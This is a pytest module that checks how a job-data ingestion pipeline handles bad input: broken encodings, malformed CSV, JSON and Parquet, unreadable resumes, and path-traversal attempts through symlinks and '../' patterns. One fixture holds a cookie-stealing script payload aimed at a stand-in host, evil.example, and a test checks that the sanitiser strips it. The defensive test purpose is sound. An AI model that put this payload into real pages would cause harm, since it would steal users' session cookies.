"""Bad input across the sources, end to end: every case is a small landing folder (or resume folder, or local HTTP
board) of its own, declared in one temporary sources config; one lake ingests them all (one source per case, so
each case's bronze rows, rejects and reconciliation rows are its own), then validates once per entity.

Each case asserts its exact outcome: which records land in bronze and then silver / quarantine (with a reason
naming the failed column) / duplicates, which files or records are rejected at ingest (with the reason), and that
the good records of the same folder are unaffected. Tests at the end check, for every source, that nothing was
lost or duplicated: ``bronze = silver + quarantine + duplicates``, record hashes partition exactly, and every
``dq_reconciliation`` row holds.
"""
from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import threading
import zipfile
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml

from skillmatch.config import Settings
from skillmatch.lake import read_parquet
from skillmatch.sources.ingest import ingest_postings, ingest_resumes, posting_source_names
from skillmatch.sources.landing import LandingFolderConnector
from skillmatch.validation.validate import validate_postings, validate_resumes

COLUMNS = {"native_id": "id", "title": "title", "company": "company", "description": "description",
           "posted_at": "posted"}
DAY = (datetime.now(timezone.utc) - timedelta(days=30)).replace(hour=0, minute=0, second=0, microsecond=0)
RECENT = DAY.strftime("%Y-%m-%d")
RUN1, RUN2, VALIDATE = "run1", "run2", "validate1"
HUGE_CHARS = 10 * 1024 * 1024
QUOTED = 'He said "ship it", twice.\nSecond line, with a comma and a "quoted, part" in it, ' + "then the job: " + \
    "we build reliable batch pipelines in Python and SQL."
ODD_NAME = b"jobs_\xe9t\xe9.csv"  # Latin-1 bytes in a file name: not valid UTF-8


def desc(tag: str) -> str:
    """An English job description, unique per ``tag``, comfortably inside the description length bounds."""
    return (f"We are hiring a data engineer ({tag}) to build reliable batch pipelines in Python and SQL for the "
            f"analytics platform team, working closely with product and finance.")


def row(source: str, native_id: str, **fields: Any) -> dict[str, Any]:
    """One posting of case ``source`` keyed by canonical field, valid unless ``fields`` override it (its
    description names the case and id: validation treats equal title + company + description as a duplicate)."""
    base = {"native_id": native_id, "title": f"Data Engineer {native_id}", "company": "Acme Analytics",
            "description": desc(f"{source} {native_id}"), "posted_at": RECENT}
    return {**base, **fields}


def csv_bytes(rows: list[dict[str, Any]], columns: dict[str, str] = COLUMNS, delimiter: str = ",",
              encoding: str = "utf-8", extra: dict[str, str] | None = None) -> bytes:
    """Rows (canonical keys) as a CSV file whose header is the mapped source columns (plus ``extra`` columns)."""
    buf = io.StringIO()
    header = [*columns.values(), *(extra or {})]
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    for r in rows:
        writer.writerow([*(r.get(k, "") for k in columns), *(extra or {}).values()])
    return buf.getvalue().encode(encoding)


def jsonl_bytes(items: list[Any]) -> bytes:
    """Items as JSON lines, keyed by the mapped source columns when they are canonical rows."""
    return "\n".join(json.dumps(_to_source(i)) if isinstance(i, dict) else str(i) for i in items).encode() + b"\n"


def _to_source(r: dict[str, Any]) -> dict[str, Any]:
    """A canonical row as a record with the source's column names."""
    return {COLUMNS.get(k, k): v for k, v in r.items()}


class Lake:
    """Builds the case folders and the sources config they are declared in, under one temporary root."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.postings: list[dict[str, Any]] = []
        self.resumes: list[dict[str, Any]] = []

    def landing(self, name: str, files: dict[str | bytes, bytes], good: bool = True, **spec: Any) -> Path:
        """A landing source ``name`` holding ``files`` and, unless ``good`` is False, ``good.csv`` with two valid
        records g1 and g2 (in the source's delimiter and columns): the neighbours that must stay unaffected."""
        folder = self.root / "landing" / name
        folder.mkdir(parents=True)
        columns = spec.setdefault("columns", dict(COLUMNS))
        if good:
            (folder / "good.csv").write_bytes(csv_bytes([row(name, "g1"), row(name, "g2")], columns,
                                                        delimiter=spec.get("delimiter", ",")))
        for fname, data in files.items():
            with open(os.path.join(os.fsencode(folder), os.fsencode(fname)), "wb") as fh:
                fh.write(data)
        self.postings.append({"name": name, "kind": "landing", "path": str(folder), **spec})
        return folder

    def write_config(self) -> Path:
        """The sources config declaring every case (postings and resumes)."""
        path = self.root / "sources.yaml"
        path.write_text(yaml.safe_dump({"postings": self.postings, "resumes": self.resumes}), encoding="utf-8")
        return path


def make_settings(data_dir: Path) -> Settings:
    """Shared-mode settings on a temporary lake (no shared data folder needed: no case path uses ${SHARED_DATA}).

    The batch-level invalid-share gate is off: this batch is mostly bad input by design, and the cases assert on
    the per-record outcome the gate would otherwise stop the task after writing.
    """
    extra = {"dq_max_invalid_share": 1.0} if "dq_max_invalid_share" in {f.name for f in dataclasses.fields(Settings)} \
        else {}
    return Settings(data_dir=data_dir, shared_dir=None, source_mode="shared", **extra)  # type: ignore[arg-type]


# ---------------------------------------------------------------- local HTTP board serving HTML


class _HTMLHandler(BaseHTTPRequestHandler):
    """Answers every GET with 200 and an HTML login page, as a captive portal or a moved board does."""

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        body = b"<!DOCTYPE html><html><head><title>Sign in</title></head><body><p>Please log in</p></body></html>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the stdlib's name
        """Silent."""


def _serve_html() -> tuple[ThreadingHTTPServer, str]:
    """A threaded HTTP server on an ephemeral 127.0.0.1 port and its base URL."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HTMLHandler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


# ---------------------------------------------------------------- resume files


def _pdf(encrypt: str | None = None) -> bytes:
    """A one-page PDF, encrypted with user password ``encrypt`` when given."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if encrypt:
        writer.encrypt(encrypt)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _zip_of_text() -> bytes:
    """A valid ZIP archive holding a text file: what a ".docx" that is not a Word document often is."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("notes.txt", "not a word document")
    return buf.getvalue()


GOOD_RESUME = ("Jane Doe, data engineer. Experience: 2019-2024 Senior Data Engineer at Acme Analytics, building "
               "batch and streaming pipelines in Python, SQL, Spark and Airflow; 2016-2019 Analyst at Beta Corp, "
               "dashboards in Looker and Tableau. Education: BSc Computer Science. Skills: Python, SQL, dbt, AWS.")
RESUME_ERRORS = {"zero.pdf": "empty", "corrupt.pdf": "PDF", "encrypted.pdf": "encrypted", "fake.docx": "DOCX"}


def resume_files() -> dict[str, bytes]:
    """The resume folder of the case: one good TXT and the four unreadable files of :data:`RESUME_ERRORS`."""
    return {"good.txt": GOOD_RESUME.encode(), "zero.pdf": b"", "corrupt.pdf": b"%PDF-1.4\nthis is not a pdf\n",
            "encrypted.pdf": _pdf(encrypt="secret"), "fake.docx": _zip_of_text()}


# ---------------------------------------------------------------- the lake under test


@dataclasses.dataclass
class World:
    """Everything one ingest + validate pass over all the cases produced."""

    root: Path
    settings: Settings
    counts: dict[tuple[str, str], dict[str, Any]]  # (run, source) -> ingest counts
    parsed_run2: list[str]  # file names the landing connector parsed during run 2
    bronze: pd.DataFrame
    silver: pd.DataFrame
    quarantine: pd.DataFrame
    duplicates: pd.DataFrame
    rejects: pd.DataFrame
    reconciliation: pd.DataFrame
    resumes: dict[str, pd.DataFrame]

    def ids(self, frame: pd.DataFrame, source: str) -> list[str]:
        """Sorted native ids of ``source`` in ``frame``."""
        return sorted(frame.loc[frame["source"] == source, "native_id"].astype(str))

    def one(self, frame: pd.DataFrame, source: str, native_id: str) -> pd.Series:
        """The single row of ``source`` / ``native_id`` in ``frame``."""
        hit = frame[(frame["source"] == source) & (frame["native_id"] == native_id)]
        assert len(hit) == 1, f"{source}:{native_id}: {len(hit)} rows"
        return hit.iloc[0]

    def rejected(self, source: str, run: str = RUN1) -> dict[str, str]:
        """{file name (or file#n / file:line): error} rejected at ingest for ``source`` in ``run``."""
        r = self.rejects[(self.rejects["source"] == source) & (self.rejects["run_id"] == run)]
        return {os.path.basename(str(f)): str(e) for f, e in zip(r["source_file"], r["error"])}

    def outcome(self, source: str, silver: list[str], quarantine: dict[str, str] | None = None,
                duplicates: dict[str, str] | None = None, rejects: dict[str, str] | None = None) -> None:
        """Assert the exact outcome of one case: silver ids; quarantined ids with a fragment of their reason;
        duplicate ids with their duplicate kind; rejected files with a fragment of their error."""
        quarantine, duplicates, rejects = quarantine or {}, duplicates or {}, rejects or {}
        assert self.ids(self.silver, source) == sorted(silver)
        assert self.ids(self.quarantine, source) == sorted(quarantine)
        for nid, fragment in quarantine.items():
            reason = str(self.one(self.quarantine, source, nid)["reason"])
            assert fragment in reason, f"{source}:{nid} quarantined for {reason!r}, expected {fragment!r}"
        dups = self.duplicates[self.duplicates["source"] == source]
        assert dict(zip(dups["native_id"], dups["duplicate_kind"])) == duplicates
        assert len(dups) == len(duplicates)
        assert self.ids(self.bronze, source) == sorted([*silver, *quarantine, *duplicates])
        got = self.rejected(source)
        assert sorted(got) == sorted(rejects), got
        for fname, fragment in rejects.items():
            assert fragment in got[fname], f"{source}: {fname} rejected for {got[fname]!r}, expected {fragment!r}"
        rec = self.recon(source, RUN1)
        assert (rec["rejected"], rec["holds"]) == (len(rejects), True)
        if silver or quarantine or duplicates:
            v = self.recon(source, VALIDATE, stage="validate")
            assert (v["bronze"], v["silver"], v["quarantine"], v["duplicates"], v["holds"]) == (
                len(silver) + len(quarantine) + len(duplicates), len(silver), len(quarantine), len(duplicates), True)

    def recon(self, source: str, run: str, stage: str = "ingest") -> dict[str, Any]:
        """The ``dq_reconciliation`` row of ``stage`` for ``source`` and ``run``."""
        r = self.reconciliation
        hit = r[(r["source"] == source) & (r["run_id"] == run) & (r["stage"] == stage)]
        assert len(hit) == 1, f"{stage} {source} {run}: {len(hit)} reconciliation rows"
        return hit.iloc[0].to_dict()


def build_cases(lake: Lake, outside: Path, board_url: str) -> None:
    """Every bad-input case as a source of its own (see the tests below for what each must do)."""
    lake.landing("empty", {"empty.csv": b"", "blank.csv": b"\n  \n"})
    lake.landing("header-only", {"header.csv": b"id,title,company,description,posted\n"})
    semi = csv_bytes([row("semicolon", "b1", company="Acme, Inc."), row("semicolon", "b2")], delimiter=";")
    lake.landing("semicolon", {"semi.csv": semi})
    lake.landing("declared-delimiter", {"commas.csv": csv_bytes([row("declared-delimiter", "b1")])}, delimiter=";")
    lake.landing("bom", {"bom.csv": b"\xef\xbb\xbf" + csv_bytes([row("bom", "b1")])})
    latin = row("latin1", "b1", title="Ingénieur de données", company="Société São Paulo Ltda")
    lake.landing("latin1", {"latin1.csv": csv_bytes([latin], encoding="latin-1")})
    mixed = csv_bytes([row("mixed-encoding", f"u{i}", company=f"Straße Daten GmbH {i}") for i in range(20)])
    cp1252_line = csv_bytes([row("mixed-encoding", "w1", company="Café Noël SARL")], encoding="cp1252")
    lake.landing("mixed-encoding", {"mixed.csv": mixed + cp1252_line.split(b"\n", 1)[1]})
    moji = row("mojibake", "b1", company="CafÃ© Central",
               description=desc("mojibake b1") + " We donâ€™t do on-call.")
    lake.landing("mojibake", {"moji.csv": csv_bytes([moji])})
    quoted = row("quoted", "b1", title='Engineer, "Data"', description=QUOTED)
    lake.landing("quoted", {"quoted.csv": csv_bytes([quoted])})
    huge = ("We build data pipelines in Python and SQL. " * (HUGE_CHARS // 43 + 1))[:HUGE_CHARS - 1] + "."
    lake.landing("huge", {"huge.csv": csv_bytes([row("huge", "big", description=huge)])})
    html_desc = ("<p>We build data pipelines for the analytics platform team, in Python and SQL, every day.</p>"
                 "<script>document.location='http://evil.example/steal?c='+document.cookie</script>"
                 "<ul><li>Airflow and dbt</li><li>Spark</li></ul><style>p{color:red}</style>")
    lake.landing("html", {"html.csv": csv_bytes([row("html", "b1", description=html_desc)])})
    dups = [row("dup-id", "d1", description=desc("first")), row("dup-id", "d1", description=desc("second"))]
    lake.landing("dup-id", {"dups.csv": csv_bytes(dups)})
    no_desc = {k: v for k, v in COLUMNS.items() if k != "description"}
    lake.landing("missing-column", {"nodesc.csv": csv_bytes([row("missing-column", "b1")], no_desc)})
    extra = {"internal_notes": "secret", "salary_grid": "L5"}
    lake.landing("extra-columns", {"extra.csv": csv_bytes([row("extra-columns", "b1")], extra=extra)})
    epoch_ms = str(int((DAY + timedelta(hours=12)).timestamp() * 1000))
    stamps = {"iso": (DAY + timedelta(hours=10)).strftime("%Y-%m-%dT%H:%M:%S+02:00"), "us": DAY.strftime("%m/%d/%Y"),
              "text": DAY.strftime("%d %b %Y"), "epoch": epoch_ms}
    dates = [row("dates", k, posted_at=v) for k, v in stamps.items()]
    lake.landing("dates", {"dates.csv": csv_bytes(dates)}, posted_at_unit="ms")
    lake.landing("future", {"future.csv": csv_bytes([row("future", "b1", posted_at="2099-01-01T00:00:00Z")])})
    salary_cols = {**COLUMNS, "salary_min": "min_salary", "salary_max": "max_salary"}
    salaries = [row("negative-salary", "neg", salary_min="-5000", salary_max="90000"),
                row("negative-salary", "ok", salary_min="80000", salary_max="90000")]
    lake.landing("negative-salary", {"salary.csv": csv_bytes(salaries, salary_cols)}, columns=salary_cols)
    blanks = [row("required-values", "b1", title=""), row("required-values", "b2", description="")]
    lake.landing("required-values", {"blanks.csv": csv_bytes(blanks)})
    ragged = csv_bytes([row("ragged", "b1")]) + b"b2,Engineer,Acme,too,many,fields\n"
    lake.landing("ragged", {"ragged.csv": ragged})
    lake.landing("json-shape", {"scalar.json": b"42", "string.json": b'"jobs"', "object.json": b'{"meta": {"n": 1}}',
                                "invalid.json": b'{"jobs": [', "notes.xml": b"<jobs/>"})
    items = [_to_source(row("json-items", "b1")), "oops", _to_source(row("json-items", "b2")), 7]
    lake.landing("json-items", {"list.json": json.dumps(items).encode()})
    lines = [row("jsonl", "b1"), "{not json", row("jsonl", "b2"), "", row("jsonl", "b3")]
    lake.landing("jsonl", {"bad.jsonl": jsonl_bytes(lines)})
    good_parquet = io.BytesIO()
    pd.DataFrame([_to_source(row("parquet", "b1", posted_at=DAY + timedelta(hours=9)))]).to_parquet(good_parquet)
    lake.landing("parquet", {"ok.parquet": good_parquet.getvalue(), "corrupt.parquet": b"PAR1 not really PAR1",
                             "truncated.parquet": good_parquet.getvalue()[:200]})
    lake.landing("odd-name", {ODD_NAME: csv_bytes([row("odd-name", "b1")])})
    secret = outside / "secret.csv"
    secret.write_bytes(csv_bytes([row("symlink", "s1")]))
    folder = lake.landing("symlink", {})
    (folder / "escape.csv").symlink_to(secret)
    lake.landing("versioned", {"v.csv": versioned_csv(changed=False)})
    hn = {"jobs": [{"id": 101, "time": int(DAY.timestamp()),
                    "text": "Acme | Senior Data Engineer | Remote | Full-time<p>" + desc("hn") + "</p>"},
                   "not an item", {"time": int(DAY.timestamp()), "text": "No id | Data Engineer"}]}
    hn_folder = lake.root / "landing" / "hn"
    hn_folder.mkdir(parents=True)
    (hn_folder / "run.json").write_text(json.dumps(hn), encoding="utf-8")
    (hn_folder / "broken.json").write_bytes(b'{"jobs": [{"id": 1,')
    lake.postings.append({"name": "hn", "kind": "hn", "path": str(hn_folder)})
    lake.postings.append({"name": "board-html", "kind": "greenhouse", "boards": ["acme"], "base_url": board_url,
                          "retries": 0, "timeout": [2, 2]})
    resumes = lake.root / "resumes"
    (resumes / "tech").mkdir(parents=True)
    for fname, data in resume_files().items():
        (resumes / "tech" / fname).write_bytes(data)
    lake.resumes.append({"name": "resumes-bad", "kind": "resume_folder", "path": str(resumes)})


def versioned_csv(changed: bool) -> bytes:
    """The ``versioned`` case's file: b1, b2, b3; with ``changed``, b2's description is rewritten."""
    b2 = row("versioned", "b2", description=desc("versioned b2 v2")) if changed else row("versioned", "b2")
    return csv_bytes([row("versioned", "b1"), b2, row("versioned", "b3")])


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """Build every case, ingest (run 1: all sources; run 2: ``versioned`` after one row changed, and ``bom``
    unchanged), validate postings and resumes once each, and load every output."""
    root = tmp_path_factory.mktemp("bad-input")
    outside = root / "outside"
    outside.mkdir()
    lake = Lake(root)
    server, url = _serve_html()
    parsed: list[str] = []
    with pytest.MonkeyPatch.context() as mp:
        try:
            build_cases(lake, outside, url)
            mp.setenv("SKILLMATCH_SOURCES_CONFIG", str(lake.write_config()))
            settings = make_settings(root / "lake")
            counts = {(RUN1, name): ingest_postings(settings, RUN1, name) for name in posting_source_names(settings)}
        finally:
            server.shutdown()
            server.server_close()
        versioned = root / "landing" / "versioned" / "v.csv"
        versioned.write_bytes(versioned_csv(changed=True))
        original = LandingFolderConnector.read_file

        def spy(self: LandingFolderConnector, data: bytes, name: str) -> tuple[pd.DataFrame, list[dict[str, str]]]:
            parsed.append(os.path.basename(name))
            return original(self, data, name)

        mp.setattr(LandingFolderConnector, "read_file", spy)
        for name in ("versioned", "bom"):
            counts[(RUN2, name)] = ingest_postings(settings, RUN2, name)
        mp.setattr(LandingFolderConnector, "read_file", original)
        validate_postings(settings, VALIDATE)
        ingest_resumes(settings, RUN1)
        validate_resumes(settings, VALIDATE)
        rejects = read_parquet(settings.lake("quarantine", "ingest_rejects"))
        resumes = {"bronze": read_parquet(settings.lake("bronze", "resumes")),
                   "silver": read_parquet(settings.lake("silver", "resumes.parquet")),
                   "quarantine": read_parquet(settings.lake("quarantine", "resumes.parquet")),
                   "duplicates": read_parquet(settings.lake("silver", "resumes_duplicates.parquet"))}
        yield World(root=root, settings=settings, counts=counts, parsed_run2=parsed,
                    bronze=read_parquet(settings.lake("bronze", "postings")),
                    silver=read_parquet(settings.lake("silver", "postings.parquet")),
                    quarantine=read_parquet(settings.lake("quarantine", "postings.parquet")),
                    duplicates=read_parquet(settings.lake("silver", "postings_duplicates.parquet")),
                    rejects=rejects[rejects["entity"] == "postings"],
                    reconciliation=read_parquet(settings.lake("dq", "dq_reconciliation")), resumes=resumes)


GOOD = ["g1", "g2"]

# ---------------------------------------------------------------- files that are empty or mis-delimited


def test_empty_and_blank_files_are_rejected_whole(world: World) -> None:
    world.outcome("empty", GOOD, rejects={"empty.csv": "empty file", "blank.csv": "empty file"})


def test_header_only_file_is_read_as_no_records(world: World) -> None:
    world.outcome("header-only", GOOD)
    assert world.counts[(RUN1, "header-only")]["read"] == 2


def test_semicolon_file_without_delimiter_is_sniffed(world: World) -> None:
    world.outcome("semicolon", ["b1", "b2", *GOOD])
    assert world.one(world.silver, "semicolon", "b1")["company"] == "Acme, Inc."


def test_declared_delimiter_that_hides_the_columns_rejects_the_file(world: World) -> None:
    world.outcome("declared-delimiter", GOOD, rejects={"commas.csv": "missing mapped columns ["})
    error = world.rejected("declared-delimiter")["commas.csv"]
    assert all(f"'{c}'" in error.split("]")[0] for c in COLUMNS.values()), error
    assert "(the file has: id,title,company,description,posted)" in error


def test_ragged_csv_row_rejects_its_file(world: World) -> None:
    world.outcome("ragged", GOOD, rejects={"ragged.csv": "cannot parse CSV"})


# ---------------------------------------------------------------- encodings


def test_utf8_bom_does_not_rename_the_first_column(world: World) -> None:
    world.outcome("bom", ["b1", *GOOD])
    assert world.one(world.bronze, "bom", "b1")["title"] == "Data Engineer b1"


def test_latin1_file_is_decoded(world: World) -> None:
    world.outcome("latin1", ["b1", *GOOD])
    got = world.one(world.silver, "latin1", "b1")
    assert (got["title"], got["company"]) == ("Ingénieur de données", "Société São Paulo Ltda")


def test_mixed_encodings_decode_every_line(world: World) -> None:
    world.outcome("mixed-encoding", [*(f"u{i}" for i in range(20)), "w1", *GOOD])
    bronze = world.bronze[world.bronze["source"] == "mixed-encoding"].set_index("native_id")["company"]
    assert bronze["w1"] == "Café Noël SARL"
    assert sorted(set(bronze.drop(["w1", "g1", "g2"]).str.replace(r" \d+$", "", regex=True))) == ["Straße Daten GmbH"]


def test_mojibake_is_repaired(world: World) -> None:
    world.outcome("mojibake", ["b1", *GOOD])
    got = world.one(world.silver, "mojibake", "b1")
    assert got["company"] == "Café Central"
    assert got["description"].endswith("We don\u2019t do on-call.")


# ---------------------------------------------------------------- field contents


def test_embedded_newlines_and_quotes_survive(world: World) -> None:
    world.outcome("quoted", ["b1", *GOOD])
    got = world.one(world.silver, "quoted", "b1")
    assert got["title"] == 'Engineer, "Data"'
    assert got["description"] == QUOTED


def test_ten_megabyte_description_lands_in_bronze_and_is_quarantined(world: World) -> None:
    world.outcome("huge", GOOD, quarantine={"big": "description"})
    assert len(world.one(world.bronze, "huge", "big")["description"]) == HUGE_CHARS


def test_script_tags_never_reach_silver(world: World) -> None:
    world.outcome("html", ["b1", *GOOD])
    text = world.one(world.silver, "html", "b1")["description"]
    assert text.startswith("We build data pipelines for the analytics platform team")
    assert "- Airflow and dbt" in text and "- Spark" in text
    for leaked in ("evil.example", "document.cookie", "<script", "color:red", "<p>"):
        assert leaked not in text


def test_duplicate_ids_with_different_content(world: World) -> None:
    world.outcome("dup-id", ["d1", *GOOD], duplicates={"d1": "same_id"})
    assert world.one(world.silver, "dup-id", "d1")["description"] == desc("first")
    dup = world.one(world.duplicates, "dup-id", "d1")
    assert (dup["description"], dup["duplicate_of"]) == (desc("second"), "dup-id:d1")


def test_missing_required_column_rejects_the_file_naming_it(world: World) -> None:
    world.outcome("missing-column", GOOD, rejects={"nodesc.csv": "missing mapped columns ['description']"})


def test_extra_columns_are_ignored(world: World) -> None:
    world.outcome("extra-columns", ["b1", *GOOD])
    assert {"internal_notes", "salary_grid"} & set(world.bronze.columns) == set()
    assert world.one(world.silver, "extra-columns", "b1")["description"] == desc("extra-columns b1")


def test_blank_title_and_description_are_quarantined(world: World) -> None:
    world.outcome("required-values", GOOD, quarantine={"b1": "(title)", "b2": "(description)"})


# ---------------------------------------------------------------- dates and salaries


def test_dates_in_several_formats_parse_to_the_right_instant(world: World) -> None:
    world.outcome("dates", ["iso", "us", "text", "epoch", *GOOD])
    got = world.bronze[world.bronze["source"] == "dates"].set_index("native_id")["posted_at"]
    want = {"iso": DAY + timedelta(hours=8), "us": DAY, "text": DAY, "epoch": DAY + timedelta(hours=12)}
    assert {k: pd.Timestamp(got[k]) for k in want} == {k: pd.Timestamp(v) for k, v in want.items()}


def test_future_date_is_quarantined_on_posted_at(world: World) -> None:
    world.outcome("future", GOOD, quarantine={"b1": "posted_at"})


def test_negative_salary_is_quarantined_on_salary_min(world: World) -> None:
    world.outcome("negative-salary", ["ok", *GOOD], quarantine={"neg": "salary_min"})
    assert world.one(world.bronze, "negative-salary", "neg")["salary_min"] == -5000


# ---------------------------------------------------------------- JSON, JSONL, Parquet, HN


def test_json_that_is_not_records_is_rejected(world: World) -> None:
    not_records = "JSON is not a list of records"
    world.outcome("json-shape", GOOD, rejects={"scalar.json": not_records, "string.json": not_records,
                                               "object.json": not_records, "invalid.json": "not valid JSON",
                                               "notes.xml": "unknown file format"})


def test_json_list_rejects_only_its_non_object_items(world: World) -> None:
    world.outcome("json-items", ["b1", "b2", *GOOD], rejects={"list.json#2": "record 2 is a str",
                                                               "list.json#4": "record 4 is a int"})
    rows = world.bronze[world.bronze["source"] == "json-items"].set_index("native_id")["source_row"]
    assert (rows["b1"], rows["b2"]) == (1, 3)


def test_jsonl_rejects_only_its_malformed_line(world: World) -> None:
    world.outcome("jsonl", ["b1", "b2", "b3", *GOOD], rejects={"bad.jsonl:2": "line 2 is not valid JSON"})
    rows = world.bronze[world.bronze["source"] == "jsonl"].set_index("native_id")["source_row"]
    assert [rows[k] for k in ("b1", "b2", "b3")] == [1, 3, 5]


def test_corrupt_and_truncated_parquet_are_rejected(world: World) -> None:
    world.outcome("parquet", ["b1", *GOOD], rejects={"corrupt.parquet": "not a readable Parquet file",
                                                     "truncated.parquet": "not a readable Parquet file"})
    posted = world.one(world.silver, "parquet", "b1")["posted_at"]  # a native Parquet timestamp column
    assert pd.Timestamp(posted) == pd.Timestamp(DAY + timedelta(hours=9))


def test_hn_rejects_bad_items_and_unparseable_runs(world: World) -> None:
    world.outcome("hn", ["101"], rejects={"broken.json": "not valid JSON", "run.json#1": "not an object",
                                          "run.json#2": "no id"})
    assert world.one(world.silver, "hn", "101")["title"] == "Senior Data Engineer"


# ---------------------------------------------------------------- file names and paths


def test_non_utf8_file_name_is_read_and_stored(world: World) -> None:
    world.outcome("odd-name", ["b1", *GOOD])
    assert world.one(world.bronze, "odd-name", "b1")["source_file"].endswith("/jobs_\ufffdt\ufffd.csv")
    state = json.loads(world.settings.lake("state", "sources", "odd-name.json").read_text(encoding="utf-8"))
    assert sorted(state["state"]["files"]) == ["good.csv", "jobs_\ufffdt\ufffd.csv"]


def test_symlink_out_of_the_landing_folder_is_not_read(world: World) -> None:
    world.outcome("symlink", GOOD, rejects={"escape.csv": "outside the landing folder"})
    assert "s1" not in set(world.bronze["native_id"])


def test_pattern_with_dotdot_raises_naming_the_source(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    lake = Lake(tmp_path)
    lake.landing("escape", {}, pattern="../*.csv")
    (tmp_path / "landing" / "secret.csv").write_bytes(csv_bytes([row("escape", "s1")]))
    monkeypatch.setenv("SKILLMATCH_SOURCES_CONFIG", str(lake.write_config()))
    settings = make_settings(tmp_path / "lake")
    with pytest.raises(ValueError, match=r"source escape: pattern '\.\./\*\.csv' may not leave the landing folder"):
        ingest_postings(settings, RUN1, "escape")
    assert not settings.lake("bronze").exists()
    assert not settings.lake("state", "sources", "escape.json").exists()


# ---------------------------------------------------------------- second runs


def test_changed_file_appends_only_the_changed_record(world: World) -> None:
    assert world.counts[(RUN2, "versioned")] == {"read": 3, "identical_in_batch": 0, "already_in_bronze": 2,
                                                 "appended": 1, "files_rejected": 0, "files_unchanged": 1}
    world.outcome("versioned", ["b1", "b2", "b3", *GOOD], duplicates={"b2": "same_id"})
    assert world.one(world.silver, "versioned", "b2")["description"] == desc("versioned b2 v2")
    assert world.one(world.duplicates, "versioned", "b2")["description"] == desc("versioned b2")
    assert world.silver["posting_id"].is_unique
    assert (world.recon("versioned", RUN2)["bronze_new"], world.recon("versioned", RUN2)["holds"]) == (1, True)


def test_unchanged_files_are_not_parsed_again(world: World) -> None:
    assert world.counts[(RUN2, "bom")] == {"read": 0, "identical_in_batch": 0, "already_in_bronze": 0,
                                           "appended": 0, "files_rejected": 0, "files_unchanged": 2}
    assert world.parsed_run2 == ["v.csv"]  # versioned's good.csv and both bom files: skipped by checksum
    assert world.recon("bom", RUN2)["fetched"] == 0


# ---------------------------------------------------------------- HTTP board


def test_board_answering_html_is_rejected(world: World) -> None:
    got = world.rejected("board-html")
    assert list(got) == ["jobs?content=true"]
    assert "returned HTML, not JSON" in got["jobs?content=true"]
    assert (world.recon("board-html", RUN1)["fetched"], world.recon("board-html", RUN1)["holds"]) == (0, True)
    assert world.ids(world.bronze, "board-html") == []


# ---------------------------------------------------------------- resumes


def _resume_layer(world: World) -> dict[str, str]:
    """{resume file name: silver | quarantine | duplicates}, through the record hash (silver keeps no file name)."""
    bronze = world.resumes["bronze"]
    names = dict(zip(bronze["record_hash"], bronze["source_file"].map(os.path.basename)))
    return {names[h]: layer for layer in ("silver", "quarantine", "duplicates")
            for h in world.resumes[layer]["record_hash"]}


def test_unreadable_resumes_are_kept_with_their_parse_error(world: World) -> None:
    bronze = world.resumes["bronze"].set_index(world.resumes["bronze"]["source_file"].map(os.path.basename))
    assert sorted(bronze.index) == sorted(["good.txt", *RESUME_ERRORS])
    assert pd.isna(bronze.loc["good.txt", "parse_error"])
    for fname, fragment in RESUME_ERRORS.items():
        assert fragment in str(bronze.loc[fname, "parse_error"]), (fname, bronze.loc[fname, "parse_error"])
    layers = _resume_layer(world)
    assert sorted(layers) == sorted(["good.txt", *RESUME_ERRORS])  # every file in exactly one layer
    assert sum(len(world.resumes[k]) for k in ("silver", "quarantine", "duplicates")) == len(bronze) == 5
    assert [f for f, layer in layers.items() if layer == "silver"] == ["good.txt"]
    assert world.resumes["silver"]["text"].item() == GOOD_RESUME
    rec = world.recon("resumes-bad", RUN1)
    assert (rec["fetched"], rec["bronze_new"], rec["holds"]) == (5, 5, True)


def test_each_unreadable_resume_is_quarantined_with_its_reason(world: World) -> None:
    layers = _resume_layer(world)
    assert {f: layers[f] for f in RESUME_ERRORS} == dict.fromkeys(RESUME_ERRORS, "quarantine")
    q = world.resumes["quarantine"]
    assert all("parse_error" in reason for reason in q["reason"]) and len(q) == len(RESUME_ERRORS)


# ---------------------------------------------------------------- nothing lost, nothing duplicated


def test_every_source_reconciles(world: World) -> None:
    parts = {"silver": world.silver, "quarantine": world.quarantine, "duplicates": world.duplicates}
    for source, frame in world.bronze.groupby("source"):
        hashes = [set(p.loc[p["source"] == source, "record_hash"]) for p in parts.values()]
        sizes = [int((p["source"] == source).sum()) for p in parts.values()]
        assert len(frame) == sum(sizes), (source, len(frame), sizes)
        assert set(frame["record_hash"]) == set().union(*hashes) and sum(map(len, hashes)) == len(frame), source
        assert frame["record_hash"].is_unique, source
    rec = world.reconciliation
    assert bool(rec["holds"].all()), rec.loc[~rec["holds"], ["stage", "source", "details"]].to_dict("records")
    ingest = rec[(rec["stage"] == "ingest") & (rec["entity"] == "postings") & (rec["run_id"] == RUN1)]
    assert sorted(ingest["source"]) == sorted(posting_source_names(world.settings))
    bronze_new = world.bronze[world.bronze["run_id"] == RUN1].groupby("source").size()
    assert {s: int(n) for s, n in zip(ingest["source"], ingest["bronze_new"]) if n} == bronze_new.to_dict()
    validated = rec[(rec["stage"] == "validate") & (rec["entity"] == "postings")]
    assert sorted(validated["source"]) == sorted(world.bronze["source"].unique())
